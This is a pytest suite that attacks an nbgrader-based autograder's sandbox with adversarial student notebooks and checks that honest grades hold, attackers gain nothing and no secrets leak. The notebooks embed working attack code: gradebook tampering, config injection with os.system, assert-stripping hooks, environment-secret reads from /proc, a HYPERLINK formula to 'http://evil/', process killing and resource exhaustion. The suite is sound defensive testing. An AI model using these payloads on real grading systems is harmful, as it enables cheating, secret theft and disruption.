"""
Grading a class that contains attackers, with real nbgrader and the real sandbox.

One submission per kind of attack a student can try (each our own version of the attacks reported
in the grading-integrity issue), beside honest classmates. Every attacker otherwise answers like an
honest student who gets some questions wrong, so any gain shows. The class is graded once; the
tests then check that honest grades are right, attackers gain nothing, nothing outside OUT changed,
no process outlived the run, the batch completed, and a regrade gives the same grades.
"""

import copy
import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import nbformat
import pytest

from autograder.course.config import CourseError
from autograder.course.quizbank import COURSE_QUIZ, LETTERS, load_quizzes
from autograder.pipeline.nbgrader_api import Execution
from autograder.pipeline.reference import instructor_references, references_cache
from autograder.release.example_submissions import solved_copy
from autograder.run.grade import GradeOptions, grade
from autograder.run.store import OutLock
from autograder.sandbox.bwrap import FIRST_SANDBOX_UID, bwrap_path, process_slot

pytestmark = [pytest.mark.slow, pytest.mark.skipif(bwrap_path() is None, reason="needs bubblewrap (bwrap)")]
TIMEOUT = 10
MARK = "attnlab-attack-marker"  # in the command line of every process an attack leaves behind
SECRET = "s3cr3t-of-the-grader"  # in the grader's environment; must never reach a kernel
LESSON = "01_attention_as_explanation"
FIRST = "00_tiny_transformer"
BUDGET = 30  # seconds per notebook in this class, so the replaying attacker is cut off quickly


def _fingerprint(*folders: Path) -> dict[str, str]:
    found = {}
    for folder in folders:
        if folder.is_dir():
            for path in sorted(folder.rglob("*")):
                # IPython's history is written by any unsandboxed kernel of a concurrent test; a sandboxed
                # kernel cannot reach the grader's home at all (test_sandbox.py).
                if path.is_file() and "__pycache__" not in path.parts and not path.name.startswith("history.sqlite"):
                    found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


class Class:
    """Builds the submissions folder: honest students and attackers, from the released notebooks."""

    def __init__(self, course, root: Path):
        self.course = course
        self.folder = root / "submitted"
        self.out = root / "out"
        self.questions = load_quizzes(course.quiz_bank, course.shuffle_seed)[COURSE_QUIZ].questions
        self.all_right = len(self.questions)  # the course quiz's score when every answer is right
        self.last_answer = self.questions[-1].answer_id
        self.quiz_release = nbformat.read(course.quizzes_dir / "quiz.ipynb", as_version=4)
        self.lesson_release = nbformat.read(course.lessons_dir / f"{LESSON}.ipynb", as_version=4)
        self.lesson_solved = solved_copy(
            self.lesson_release, nbformat.read(course.solutions_dir / f"{LESSON}.ipynb", as_version=4)
        )
        self.expected = {}  # student -> (assignment, score, statuses that must appear)
        self.lesson_points = {
            c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
            for c in self.lesson_release.cells
            if c.metadata.get("nbgrader", {}).get("grade")
        }
        self.lesson_max = sum(self.lesson_points.values())
        # the honest mistake below costs exactly the attention-mass exercise
        self.lesson_mistake = self.lesson_max - self.lesson_points["test_attention_mass"]
        self.first_release = nbformat.read(course.lessons_dir / f"{FIRST}.ipynb", as_version=4)
        self.first_solved = solved_copy(
            self.first_release, nbformat.read(course.solutions_dir / f"{FIRST}.ipynb", as_version=4)
        )
        self.first_points = {
            c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
            for c in self.first_release.cells
            if c.metadata.get("nbgrader", {}).get("grade")
        }

    def wrong(self, q):
        return next(letter for letter in LETTERS if letter != q.answer)

    def quiz(self, right: int | None = None):
        """A quiz answering the first `right` questions correctly (default: all) and the rest wrong."""
        right = self.all_right if right is None else right
        nb = copy.deepcopy(self.quiz_release)
        for q in self.questions:
            _cell(nb, q.answer_id).source = f'{q.variable} = "{q.answer if q.number <= right else self.wrong(q)}"'
        return nb

    def lesson(self, wrong_mass: bool = False):
        nb = copy.deepcopy(self.lesson_solved)
        if wrong_mass:  # an honest mistake the visible checks miss: the mass of the first row is doubled
            cell = _cell(nb, "ex_attention_mass")
            cell.source = cell.source.replace(
                "return (rows * rationale.float()).sum(-1)",
                "mass = (rows * rationale.float()).sum(-1)\n    return torch.cat([mass[:2], mass[2:] * 2])",
            )
        return nb

    @staticmethod
    def inject(nb, source: str, after: str | None = None):
        """Add a code cell with `source` after the cell `after` (default: first)."""
        index = 0 if after is None else nb.cells.index(_cell(nb, after)) + 1
        nb.cells.insert(index, nbformat.v4.new_code_cell(source))
        return nb

    def add(self, student: str, assignment: str, nb, score: float, statuses=(), file_name: str | None = None):
        target = self.folder / student / assignment / (file_name or f"{assignment}.ipynb")
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, bytes):
            target.write_bytes(nb)
        else:
            nbformat.write(nb, target)
        self.expected[student] = (assignment, score, set(statuses))
        return target


def _attacks(c: Class, outside: Path) -> None:
    out, folder = c.out, c.folder
    victim_copy = out / "course" / "submitted" / "zz_victim" / "quiz" / "quiz.ipynb"
    wrong_quiz = json.dumps(c.quiz(right=0))
    # --- honest classmates -------------------------------------------------------------------------
    c.add("hon_all", "quiz", c.quiz(), c.all_right)
    c.add("hon_five", "quiz", c.quiz(5), 5)
    c.add("zz_victim", "quiz", c.quiz(), c.all_right)
    c.add("zy_victim", "quiz", c.quiz(), c.all_right)
    c.add("hon_lesson", LESSON, c.lesson(), c.lesson_max)
    c.add("hon_mistake", LESSON, c.lesson(wrong_mass=True), c.lesson_mistake)
    # --- 1. other students' grades and later runs ---------------------------------------------------
    c.add(
        "a_rewrite",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import os, pathlib
for target in [{str(victim_copy)!r}, {str(folder / "zz_victim" / "quiz" / "quiz.ipynb")!r}]:
    try:
        pathlib.Path(target).write_text({wrong_quiz!r})
    except OSError as e:
        print("blocked", type(e).__name__)
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith(".ipynb") and "zz_victim" in root:
            try:
                pathlib.Path(root, name).write_text({wrong_quiz!r})
            except OSError:
                pass
""",
        ),
        5,
    )
    c.add(
        "a_gradebook",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import sqlite3
try:
    db = sqlite3.connect({str(out / "gradebook.db")!r})
    db.execute("update grade set manual_score = 1")
    db.execute("update grade_cells set source = 'pass'")
    db.commit()
except Exception as e:
    print("blocked", type(e).__name__)
""",
        ),
        5,
    )
    c.add(
        "a_daemon",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import subprocess, sys
code = '''
import time, pathlib
for _ in range(600):
    for p in [{str(out / "grades.csv")!r}, {str(out / "feedback" / "zz_victim" / "quiz" / "quiz.html")!r}]:
        try:
            pathlib.Path(p).write_text("hon_all,quiz,q1,0,1,ok,owned")
        except OSError:
            pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code, {MARK!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        ),
        5,
    )
    c.add(
        "a_key",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import os, pathlib, attnlab
repo = pathlib.Path(attnlab.__file__).resolve().parents[1]
for target in [repo / "solutions" / "quiz.ipynb", repo / "solutions" / "quiz_bank.toml",
               repo / "autograder" / "course.toml",
               repo / "attnlab" / "checks.py", pathlib.Path({str(outside / "canary.txt")!r}),
               pathlib.Path(os.environ.get("ATTNLAB_CACHE_DIR", "/nonexistent")) / "planted.pt"]:
    try:
        target.write_text("owned")
    except OSError as e:
        print("blocked", type(e).__name__)
""",
        ),
        5,
    )
    c.add(
        "a_startup",
        "quiz",
        c.inject(
            c.quiz(5),
            """
import pathlib
for home in [pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path("/home/student")]:
    startup = home / ".ipython" / "profile_default" / "startup"
    try:
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-pass.py").write_text(
            "import builtins\\nbuiltins.AssertionError = type('X', (Exception,), {})\\n"
        )
    except OSError as e:
        print("blocked", type(e).__name__)
""",
        ),
        5,
    )
    c.add(
        "a_config",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
try:
    with open({str(out / "course" / "nbgrader_config.py")!r}, "a") as f:
        f.write("\\nimport os; os.system('touch /tmp/owned')\\n")
except OSError as e:
    print("blocked", type(e).__name__)
""",
        ),
        5,
    )
    # --- 2. forging one's own score inside the kernel -----------------------------------------------
    c.add(
        "f_transformer",
        "quiz",
        c.inject(
            c.quiz(5),
            """
def _blank(lines):
    return [line for line in lines if not line.lstrip().startswith(("assert", "raise"))]
get_ipython().input_transformers_cleanup.append(_blank)
""",
        ),
        5,
        {"score_mismatch"},
    )
    c.add(
        "f_ast",
        "quiz",
        c.inject(
            c.quiz(5),
            """
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
""",
        ),
        5,
        {"score_mismatch"},
    )
    c.add(
        "f_key_in_kernel",
        "quiz",
        c.inject(
            c.quiz(5),
            """
import builtins
class _Any(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
    def strip(self, *a): return self
    def removesuffix(self, *a): return self
    def upper(self): return self
builtins.str = _Any
""",
            after=c.last_answer,
        ),
        5,
    )
    c.add(
        "f_patch_checks",
        LESSON,
        c.inject(
            c.lesson(wrong_mass=True),
            """
import attnlab.checks as _c
_c.check = _c.check_tensor = _c.passed = _c.record = lambda *a, **k: None
check = check_tensor = passed = record = _c.check
""",
        ),
        c.lesson_mistake,
    )
    c.add(
        "f_isclose",
        LESSON,
        c.inject(
            c.lesson(wrong_mass=True),
            """
import torch
torch.isclose = lambda *a, **k: torch.ones((), dtype=torch.bool)
torch.allclose = lambda *a, **k: True
class _F(float):
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
""",
        ),
        c.lesson_mistake,
    )
    alias = copy.deepcopy(c.first_solved)  # calls the library through a name bound before the checks patch it
    _cell(alias, "ex_collect_patterns").source = (
        "_run_with_cache = type(model).run_with_cache\n\n"
        "def collect_patterns(model, tokens):\n    out, _ = _run_with_cache(model, tokens)\n    return out.attentions"
    )
    c.add("f_alias", FIRST, alias, sum(c.first_points.values()) - c.first_points["test_collect_patterns"])
    duplicated = c.quiz(5)
    fake = copy.deepcopy(_cell(duplicated, c.questions[-1].test_id))
    fake.source = "pass  # a test cell of my own"
    bonus = copy.deepcopy(fake)
    bonus.metadata["nbgrader"] = dict(bonus.metadata["nbgrader"], grade_id="bonus", points=100)
    duplicated.cells[2:2] = [copy.deepcopy(fake) for _ in range(5)] + [bonus]
    for n, cell in enumerate(duplicated.cells):
        cell.id = f"cell-{n}"
    c.add("f_duplicates", "quiz", duplicated, 5)
    # --- 3. leaks -------------------------------------------------------------------------------------
    c.add(
        "l_leak",
        LESSON,
        c.inject(
            c.lesson(),
            f"""
import os, pathlib
def _secrets():
    found = []
    for path in ["/proc/1/cmdline", "/proc/1/environ", "/proc/self/environ",
                 {str(out / "course" / "source" / "quiz" / "quiz.ipynb")!r}, "../../../source/quiz/quiz.ipynb"]:
        try:
            found.append(pathlib.Path(path).read_text(errors="replace")[:2000])
        except OSError as e:
            found.append(type(e).__name__)
    try:
        found.append(" ".join(os.listdir({str(out / "course" / "submitted")!r})))
    except OSError as e:
        found.append(type(e).__name__)
    found.append(" ".join(f"{{k}}={{v}}" for k, v in os.environ.items()))
    try:
        found.append(In[-1])
    except NameError:
        pass
    return "\\n".join(found)
print(_secrets())
class Leak(Exception):
    pass
Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
""",
            after=None,
        ),
        c.lesson_max,
    )
    leak = c.folder / "l_leak" / LESSON / f"{LESSON}.ipynb"
    nb = nbformat.read(leak, as_version=4)
    cell = _cell(nb, "ex_flip_rate")
    cell.source = cell.source.replace(
        "    with torch.no_grad():", "    raise Leak(_secrets())\n    with torch.no_grad():", 1
    )
    nbformat.write(nb, leak)
    c.expected["l_leak"] = (LESSON, c.lesson_max - c.lesson_points["test_flip_rate"], set())
    # --- 4. one submission ends the batch -----------------------------------------------------------
    c.add("b_nested", "quiz", b"[" * 5000, 0, {"not_json"})
    raw = c.quiz()
    _cell(raw, "q1").cell_type = "raw"
    _cell(raw, "q2").cell_type = "markdown"
    _cell(raw, "answer_3").cell_type = "raw"
    for grade_id in ("q1", "q2", "answer_3"):
        cell = _cell(raw, grade_id)
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    c.add("b_raw_cells", "quiz", raw, c.all_right, {"cells_restored"})
    c.add(
        "b_kill",
        "quiz",
        c.inject(
            c.quiz(5),
            """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print("blocked", type(e).__name__)
""",
            after=c.last_answer,
        ),
        5,
    )
    # --- 5. resources -------------------------------------------------------------------------------
    c.add(
        "r_memory",
        "quiz",
        c.inject(
            c.quiz(5),
            """
try:
    hog = bytearray(8 * 1024 ** 3)
except MemoryError:
    print("no memory for that")
""",
        ),
        5,
    )
    c.add(
        "r_orphans",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c",
                      "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)",
                      {MARK!r}], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        ),
        5,
    )
    c.add(
        "r_disk",
        "quiz",
        c.inject(
            c.quiz(5),
            f"""
import os
import shutil
from ipykernel.connect import get_connection_file
sockets = os.path.dirname(get_connection_file())  # the one folder it shares with the grader
for target in ["big.bin", "/tmp/big.bin", {str(out / "big.bin")!r}, os.path.join(sockets, "big.bin")]:
    try:
        with open(target, "wb") as f:
            for _ in range(1024):
                f.write(b"x" * 1024 * 1024)
    except OSError as e:
        print("stopped", type(e).__name__)
""",
        ),
        5,
    )
    c.add(
        "r_outputs",
        "quiz",
        c.inject(
            c.quiz(5),
            """
import base64
from IPython.display import Image, display
png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE"
                       "hQGAhKmMIQAAAABJRU5ErkJggg==")
for i in range(3000):
    print("spam " * 200)
    display({"image/png": base64.b64encode(png * 20000).decode()}, raw=True) if i < 60 else None
""",
        ),
        5,
        {"output_truncated"},
    )
    huge = c.quiz(5)
    huge.cells.append(
        nbformat.v4.new_code_cell(
            "x = 1",
            outputs=[nbformat.v4.new_output("stream", name="stdout", text="y" * (c.course.max_notebook_bytes + 1000))],
        )
    )
    c.add("r_huge_file", "quiz", huge, 0, {"too_large"})
    hang = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
    replay = c.quiz(5)
    for after, source in [
        ("answer_1", "import time\ntime.sleep(5)"),
        ("answer_2", "import time\ntime.sleep(5)"),
        ("answer_4", hang),
        ("answer_6", hang),
        (c.last_answer, hang),
    ]:
        c.inject(replay, source, after=after)
    c.add("r_replay", "quiz", replay, 5, {"time_budget"})
    # --- 6. ids and paths ---------------------------------------------------------------------------
    c.add("*", "quiz", c.quiz(0), 0, {"bad_id"})
    c.add("z?_victim", "quiz", c.quiz(0), 0, {"bad_id"})
    c.add("bad\nid", "quiz", c.quiz(0), 0, {"bad_id"})
    c.add("@formula", "quiz", c.quiz(), c.all_right)
    (c.folder / "s_linked_folder").symlink_to(c.folder / "hon_all")
    c.expected["s_linked_folder"] = ("-", 0, {"symlink"})
    link = c.folder / "s_linked_notebook" / "quiz"
    link.mkdir(parents=True)
    (link / "quiz.ipynb").symlink_to(c.folder / "hon_all" / "quiz" / "quiz.ipynb")
    c.expected["s_linked_notebook"] = ("quiz", 0, {"symlink"})
    stamp = c.add("t_timestamp", "quiz", c.quiz(), c.all_right)
    (stamp.parent / "timestamp.txt").write_text("next tuesday, probably")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, course):
    root = tmp_path_factory.mktemp("attacked")
    outside = tmp_path_factory.mktemp("outside")
    (outside / "canary.txt").write_text("untouched")
    klass = Class(course, root)
    _attacks(klass, outside)
    repo = course.root
    watched = [
        repo / "solutions",
        repo / "quizzes",
        repo / "autograder",
        repo / "attnlab",
        klass.folder,
        outside,
        Path.home() / ".ipython",
        Path.home() / ".cache" / "attnlab",
    ]
    # The instructor's results are computed (and cached) before the watch starts: they are the grader's own writes.
    for lesson in (FIRST, LESSON):
        instructor_references(course, course.solutions_dir / f"{lesson}.ipynb", references_cache(course), Execution())
    before = _fingerprint(*watched)
    os.environ["ATTNLAB_TEST_SECRET"] = SECRET
    # A short budget per notebook, so the replaying attacker is cut off quickly.
    short = replace(course, budget=BUDGET)
    try:
        report = grade(short, klass.folder, klass.out, GradeOptions(timeout=TIMEOUT))
    finally:
        del os.environ["ATTNLAB_TEST_SECRET"]
    return klass, report, before, watched


def _item(report, student):
    [item] = [g for g in report.graded if g.submission.student == student]
    return item


def _rows(out: Path) -> list[dict]:
    with (out / "grades.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_the_batch_completes_with_a_row_for_every_submission(attacked):
    klass, report, _, _ = attacked
    shown = {g.submission.student for g in report.graded}
    assert {s for s in klass.expected if s.isidentifier() or s[0] == "@"} <= shown
    assert sum(1 for s in shown if "bad_id" in _item(report, s).submission.status) == 3
    students = {r["student_id"] for r in _rows(klass.out)}
    assert {"hon_all", "zz_victim", "b_kill", "r_replay", "b_nested"} <= students


def test_honest_students_get_their_grades_and_attackers_gain_nothing(attacked):
    klass, report, _, _ = attacked
    for item in report.graded:
        student = item.submission.student
        if student not in klass.expected:
            continue  # the bad ids, shown in a safe form
        assignment, score, statuses = klass.expected[student]
        details = (student, [(v.question, v.score, v.message) for v in item.verdicts], item.submission.notes)
        assert item.submission.assignment == assignment
        if student.startswith(("hon", "z", "t_", "@")):  # honest: exactly their grade, nothing flagged
            assert item.score == score and item.submission.status == [], details
        else:  # attackers: at most the score of their honest answers, and what they did is flagged
            assert item.score <= score, details
        assert statuses <= set(item.submission.status), details


def test_the_time_budget_bounds_a_notebook_that_hangs_again_and_again(attacked):
    _, report, _, _ = attacked
    replay = _item(report, "r_replay")
    # Without a budget: 2 x 5 s of slow cells, then 3 hanging cells, each 10 s + 4 s and a replay of 10 s.
    assert replay.seconds < BUDGET + 20


def test_nothing_outside_out_changes(attacked):
    klass, _, before, watched = attacked
    assert _fingerprint(*watched) == before
    assert not Path("/tmp/owned").exists()


def test_no_process_outlives_the_run(attacked):
    listing = subprocess.run(["ps", "-eo", "uid,args"], capture_output=True, text=True).stdout.splitlines()[1:]
    mine = FIRST_SANDBOX_UID + process_slot()  # the uid of this process's sandboxes (other test workers have others)
    left = [line for line in listing if MARK in line or int(line.split()[0]) == mine]
    assert left == []


def test_out_holds_no_planted_files_or_huge_outputs(attacked):
    klass, _, _, _ = attacked
    sizes = {p: p.stat().st_size for p in klass.out.rglob("*") if p.is_file()}
    assert not (klass.out / "big.bin").exists()
    assert max(sizes.values()) < 30 * 2**20, max(sizes.items(), key=lambda kv: kv[1])
    config = (klass.out / "course" / "nbgrader_config.py").read_text()
    assert "owned" not in config and "os.system" not in config


def test_feedback_and_csv_leak_nothing(attacked):
    klass, report, _, _ = attacked
    rows = _rows(klass.out)
    ids = {r["student_id"] for r in rows}
    messages = " ".join(r["message"] for r in rows)
    for page in (klass.out / "feedback").rglob("*.html"):
        owner = page.relative_to(klass.out / "feedback").parts[0]
        text = page.read_text()
        assert not [other for other in ids if other != owner and len(other) > 3 and other in text], page
        messages += text
    for forbidden in (
        SECRET,
        "BEGIN HIDDEN",
        "record(",
        "HYPERLINK",
        "is not the correct option",
        str(klass.out),
        "/proc",
        "Traceback",
    ):
        assert forbidden not in messages, forbidden
    for row in rows:
        assert all(value[:1] not in "=+-@" for value in row.values()), row
    autograded = (klass.out / "course" / "autograded" / "l_leak" / LESSON / f"{LESSON}.ipynb").read_text()
    assert SECRET not in autograded and "ATTNLAB_TEST_SECRET" not in autograded
    leak = {v.question: v.message for v in _item(report, "l_leak").verdicts}
    assert leak["test_flip_rate"] == "your code raised an exception"


def test_the_gradebook_holds_the_graders_scores(attacked, course):
    from nbgrader.api import Gradebook

    klass, report, _, _ = attacked
    with Gradebook(f"sqlite:///{klass.out / 'gradebook.db'}", course.course_id) as gb:
        for student in ("hon_five", "a_gradebook", "f_transformer", "zz_victim"):
            notebook = gb.find_submission_notebook("quiz", "quiz", student)
            assert notebook.score == _item(report, student).score
            assert all(g.manual_score is None for g in notebook.grades)


def test_a_second_run_into_the_same_out_refuses(attacked, course):
    klass, _, _, _ = attacked
    with OutLock(klass.out):
        with pytest.raises(CourseError, match="being graded"):
            grade(course, klass.folder, klass.out, GradeOptions(timeout=TIMEOUT))


def test_a_regrade_gives_the_same_grades(attacked, course, tmp_path):
    klass, report, _, _ = attacked
    subset = tmp_path / "submitted"
    for student in ("hon_five", "f_ast", "a_rewrite", "b_raw_cells", "t_timestamp"):
        (subset / student).mkdir(parents=True)
        for assignment in (klass.folder / student).iterdir():
            subprocess.run(["cp", "-r", str(assignment), str(subset / student)], check=True)
    again = grade(course, subset, tmp_path / "out", GradeOptions(timeout=TIMEOUT))
    first = {
        (r["student_id"], r["question"]): r
        for r in _rows(klass.out)
        if r["student_id"] in {"hon_five", "f_ast", "a_rewrite", "b_raw_cells", "t_timestamp"}
    }
    second = {(r["student_id"], r["question"]): r for r in _rows(again.out)}
    assert first == second


def test_nbgrader_autograde_scores_every_attack_as_grade_does(attacked, course, tmp_path):
    """The instructor's own nbgrader (the CLI, and so the Formgrader's button) on grade's course folder,
    copied elsewhere (its configuration is relative to it): every attacker and every honest student
    scores what grade gave them, cell by cell."""
    from nbgrader.api import Gradebook, SubmittedAssignment

    klass, report, _, _ = attacked
    out = tmp_path / "copy"
    shutil.copytree(klass.out, out, ignore=shutil.ignore_patterns(".grading.lock"))
    by_grade = {
        (g.submission.student, g.submission.assignment): {v.question: v.score for v in g.verdicts}
        for g in report.graded
        if g.submission.path is not None
    }
    bin_dir = Path(sys.executable).parent
    for assignment in sorted({a for _, a in by_grade}):
        subprocess.run(
            [str(bin_dir / "nbgrader"), "autograde", assignment, "--force", f"--Execute.timeout={TIMEOUT}",
             f"--RobustExecute.budget={BUDGET}"],
            cwd=out / "course", env=os.environ | {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"},
            check=True, capture_output=True, timeout=1800,
        )  # fmt: skip
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}", course.course_id) as gb:
        by_nbgrader = {
            (s.student_id, s.assignment.name): {g.name: g.score for nb in s.notebooks for g in nb.grades}
            for s in gb.db.query(SubmittedAssignment)
        }
    assert by_nbgrader == by_grade
